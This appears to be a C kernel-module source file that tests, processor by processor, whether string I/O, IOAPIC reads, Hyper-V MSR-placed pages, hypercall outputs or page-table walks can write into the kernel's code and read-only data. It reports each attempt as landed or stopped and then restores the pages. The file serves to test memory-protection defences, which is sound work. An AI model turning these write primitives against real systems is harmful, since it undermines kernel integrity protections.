/*
 * The confused deputy: no instruction here stores to the kernel's code or read-only data by itself.
 * What is below the kernel is asked to: it carries out string input and moves from devices, puts pages
 * of its own where an MSR says, writes a call's output, and marks the page tables that it walks.
 *
 * All other processors stand still meanwhile, so that nobody meets what has landed before it is undone.
 */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <linux/stop_machine.h>
#include <linux/vmalloc.h>
#include <asm/msr.h>
#include <asm/pgtable.h>
#include "attempt.h"
#include "deputy.h"

#define PORT_CONTROL 0x92 /* system control port A: a byte, and reading it changes nothing */
#define PORT_PCI     0xcf8 /* PCI's address */
#define PCI_ENABLE   0x80000000

#define IOAPIC	       0xfec00000
#define IOAPIC_VERSION 1 /* register: never zero */
#define IOAPIC_WINDOW  0x10

/* Hyper-V's interface (TLFS): MSRs that name a page, whose bit 0 enables it. */
#define MSR_HYPERCALL	  0x40000001
#define MSR_REFERENCE_TSC 0x40000021
#define MSR_ASSIST_PAGE	  0x40000073
#define MSR_SIEFP	  0x40000082
#define MSR_SIMP	  0x40000083

/* Calls of one element and with output, for the caller's own partition and processor. */
#define CALL_GET_VP_REGISTERS (1ull << 32 | 0x50)
#define CALL_GET_VP_INDEX     (1ull << 32 | 0x9a)
#define SELF		      (~0ull)
#define SELF_VP		      0xfffffffeull
#define REGISTER_VP_INDEX     0x00090003

#define BYTES 16 /* that a string instruction writes */

/* A page to attack, as the kernel sees it, and behind a page of nothing, writable. */
struct place {
	const char *what;
	u8 *page;
	u8 *alias;
	u8 *at; /* in the alias: what is attacked, BYTES of which are not all zeros */
	u64 gpa;
	u64 *entry; /* in the page: what would be a page-table entry, of page 0, never used yet */
};

struct outcome {
	bool refused;
	bool changed;
};

static struct {
	u8 *scratch; /* two pages of 2 MiB, so that a whole page table is theirs */
	void __iomem *ioapic;
	u64 *input; /* of calls */
	u8 *kept;
} tools;

/* True if the instruction faulted. */
#define STRING(instruction, port, from, to, times)                                                 \
	({                                                                                         \
		int faulted = 1;                                                                   \
		const void *source = (const void *)(from);                                         \
		void *destination = (to);                                                          \
		unsigned long count = (times);                                                     \
                                                                                                   \
		ATTEMPT(faulted, "rep " instruction, "+S"(source), "+D"(destination), "+c"(count)  \
			: "d"(port)                                                                \
			: "memory");                                                               \
		faulted != 0;                                                                      \
	})

static bool in_bytes(const struct place *place)
{
	return STRING("insb", PORT_CONTROL, NULL, place->at, BYTES);
}

static bool in_words(const struct place *place)
{
	return STRING("insw", PORT_PCI, NULL, place->at, BYTES / 2);
}

static bool in_dwords(const struct place *place)
{
	u32 before = inl(PORT_PCI);
	bool refused;

	outl(PCI_ENABLE, PORT_PCI);
	refused = STRING("insl", PORT_PCI, NULL, place->at, BYTES / 4);
	outl(before, PORT_PCI);
	return refused;
}

/* From the IOAPIC's window, with something in it. */
#define MOVE(instruction, to, times)                                                               \
	({                                                                                         \
		u32 selected = readl(tools.ioapic);                                                \
		bool refused;                                                                      \
                                                                                                   \
		writel(IOAPIC_VERSION, tools.ioapic);                                              \
		refused = STRING(instruction, 0, tools.ioapic + IOAPIC_WINDOW, to, times);         \
		writel(selected, tools.ioapic);                                                    \
		refused;                                                                           \
	})

static bool move_bytes(const struct place *place)
{
	return MOVE("movsb", place->at, BYTES);
}

static bool move_dwords(const struct place *place)
{
	return MOVE("movsl", place->at, BYTES / 4);
}

/* Begins in the page of nothing before it. */
static bool move_across(const struct place *place)
{
	return MOVE("movsl", place->alias - 2, BYTES / 4);
}

/* True if there is no such MSR, which need not fault, or it does not take the page. */
static bool name_page(const struct place *place, u32 msr)
{
	u64 before, now;

	if (rdmsrl_safe(msr, &before))
		return true;
	/* What it refuses it forgets. */
	if (wrmsrl_safe(msr, place->gpa | 1))
		return !rdmsrl_safe(msr, &now) && now == before;
	rdmsrl_safe(msr, &now);
	wrmsrl_safe(msr, before);
	return now != (place->gpa | 1);
}

static bool hypercall_page(const struct place *place)
{
	return name_page(place, MSR_HYPERCALL);
}

static bool reference_page(const struct place *place)
{
	return name_page(place, MSR_REFERENCE_TSC);
}

static bool assist_page(const struct place *place)
{
	return name_page(place, MSR_ASSIST_PAGE);
}

static bool message_page(const struct place *place)
{
	return name_page(place, MSR_SIMP);
}

static bool event_page(const struct place *place)
{
	return name_page(place, MSR_SIEFP);
}

/* True if there is no such call, or it has been refused. */
static bool call(u64 control, u64 vp, u64 element, u64 output)
{
	u64 status = 1;
	register u64 out asm("r8") = output;

	tools.input[0] = SELF;
	tools.input[1] = vp;
	tools.input[2] = element;
	asm volatile("1: vmmcall\n2:\n" _ASM_EXTABLE(1b, 2b)
		     : "+a"(status)
		     : "c"(control), "d"(__pa(tools.input)), "r"(out)
		     : "memory");
	return (u16)status != 0;
}

static u64 output_of(const struct place *place)
{
	return place->gpa + ALIGN_DOWN(place->at - place->alias, BYTES);
}

static bool call_registers(const struct place *place)
{
	return call(CALL_GET_VP_REGISTERS, SELF_VP, REGISTER_VP_INDEX, output_of(place));
}

static bool call_vp_index(const struct place *place)
{
	return call(CALL_GET_VP_INDEX, 0, 0, output_of(place));
}

/* The entry of the second level for an address of the kernel's; it refers to a table. */
static pmd_t *find_pmd(unsigned long address)
{
	pgd_t *pgd = pgd_offset_pgd(__va(read_cr3_pa()), address);

	return pmd_offset(pud_offset(p4d_offset(pgd, address), address), address);
}

static void forget_translations(void)
{
	unsigned long cr4 = __read_cr4();

	/* Global pages too, and with no function that modules may not call. */
	asm volatile("mov %0, %%cr4\n\tmov %1, %%cr4"
		     :
		     : "r"(cr4 & ~X86_CR4_PGE), "r"(cr4)
		     : "memory");
}

/* The page as a page table: who walks it marks its entry accessed and dirty. */
static bool page_table(const struct place *place)
{
	unsigned long window = ALIGN((unsigned long)tools.scratch, PMD_SIZE);
	unsigned long index = offset_in_page(place->entry) / sizeof(u64);
	u8 *first = __va(0);
	u8 before = *first;
	pmd_t *pmd = find_pmd(window), table = *pmd;
	bool faulted;

	WRITE_ONCE(*pmd, __pmd(place->gpa | _KERNPG_TABLE));
	forget_translations();
	faulted = STRING("insb", PORT_CONTROL, NULL, (void *)(window + index * PAGE_SIZE), 1);
	WRITE_ONCE(*pmd, table);
	forget_translations();
	*first = before;
	return faulted;
}

static const struct {
	const char *name;
	bool (*ask)(const struct place *place); /* true if it has been refused */
	bool is_walk;
} deputies[] = {
	{"insb", in_bytes},
	{"insw", in_words},
	{"insl", in_dwords},
	{"movsb", move_bytes},
	{"movsl", move_dwords},
	{"movsl across pages", move_across},
	{"page table", page_table, true},
	{"hypercall page", hypercall_page},
	{"assist page", assist_page},
	{"reference page", reference_page},
	{"message page", message_page},
	{"event page", event_page},
	{"call for registers", call_registers},
	{"call for an index", call_vp_index},
};

#define PLACES 3

static struct {
	struct place place[PLACES];
	struct outcome outcome[PLACES][ARRAY_SIZE(deputies)];
} attack;

/* Pages with an entry are for walks, and only they. */
static bool goes_with(unsigned int d, const struct place *place)
{
	return place->page && deputies[d].is_walk == (place->entry != NULL);
}

static struct outcome ask(unsigned int d, const struct place *place)
{
	struct outcome outcome;

	memcpy(tools.kept, place->page, PAGE_SIZE);
	outcome.refused = deputies[d].ask(place);
	outcome.changed = memcmp(tools.kept, place->page, PAGE_SIZE) != 0;
	/* Where it has landed although this store does not, that is to be said, not died of. */
	if (outcome.changed)
		STRING("movsb", 0, tools.kept, place->alias, PAGE_SIZE);
	return outcome;
}

/* On the processor that is to try; interrupts are off, here and everywhere. */
static int ask_all_here(void *info)
{
	unsigned int p, d;

	for (p = 0; p < PLACES; p++) {
		for (d = 0; d < ARRAY_SIZE(deputies); d++) {
			if (goes_with(d, &attack.place[p]))
				attack.outcome[p][d] = ask(d, &attack.place[p]);
		}
	}
	return 0;
}

static void ask_all_on(unsigned int cpu)
{
	unsigned int p, d;

	if (stop_machine(ask_all_here, NULL, cpumask_of(cpu)))
		return;
	for (p = 0; p < PLACES; p++) {
		for (d = 0; d < ARRAY_SIZE(deputies); d++) {
			struct outcome outcome = attack.outcome[p][d];

			if (goes_with(d, &attack.place[p]))
				pr_info("attack: deputy: CPU %u, %s, %s: %s\n", cpu,
					attack.place[p].what, deputies[d].name,
					outcome.refused == outcome.changed ? "odd"
						: outcome.changed	   ? "landed"
									   : "stopped");
		}
	}
}

/* Present and writable, the kernel's, not accessed, and of page 0: a number that is often found. */
static u64 *find_entry(u8 *from, u8 *to)
{
	u64 *word;

	for (word = (u64 *)from; word < (u64 *)to; word++) {
		if (*word == (_PAGE_PRESENT | _PAGE_RW))
			return word;
	}
	return NULL;
}

static void set_place(unsigned int p, const char *what, u8 *at, u64 *entry)
{
	struct place *place = &attack.place[p];
	u8 *page = PTR_ALIGN_DOWN(at, PAGE_SIZE);
	struct page *pages[2] = {
		vmalloc_to_page(tools.scratch), pfn_to_page(__pa_symbol(page) >> PAGE_SHIFT)};
	u8 *both = at ? vmap(pages, 2, VM_MAP, PAGE_KERNEL) : NULL;

	if (!both)
		return;
	*place = (struct place){
		.what = what,
		.page = page,
		.alias = both + PAGE_SIZE,
		.at = both + PAGE_SIZE + min(offset_in_page(at), PAGE_SIZE - BYTES),
		.gpa = __pa_symbol(page),
		.entry = entry,
	};
}

void deputy_attack(u8 *text, u8 *rodata, u8 *rodata_end)
{
	unsigned int cpu, p;
	u64 *entry = find_entry(PTR_ALIGN(rodata, PAGE_SIZE), rodata_end);

	tools.scratch = vzalloc(2 * PMD_SIZE);
	tools.ioapic = ioremap(IOAPIC, PAGE_SIZE);
	tools.input = (u64 *)get_zeroed_page(GFP_KERNEL);
	tools.kept = kmalloc(PAGE_SIZE, GFP_KERNEL);
	if (tools.scratch && tools.ioapic && tools.input && tools.kept) {
		set_place(0, "code", text, NULL);
		set_place(1, "read-only data", rodata, NULL);
		set_place(2, "read-only data", (u8 *)entry, entry);
		for (cpu = 0; cpu < nr_cpu_ids; cpu++) {
			if (cpu_online(cpu))
				ask_all_on(cpu);
		}
	}
	for (p = 0; p < PLACES; p++) {
		if (attack.place[p].page)
			vunmap(attack.place[p].alias - PAGE_SIZE);
	}
	kfree(tools.kept);
	free_page((unsigned long)tools.input);
	if (tools.ioapic)
		iounmap(tools.ioapic);
	vfree(tools.scratch);
}
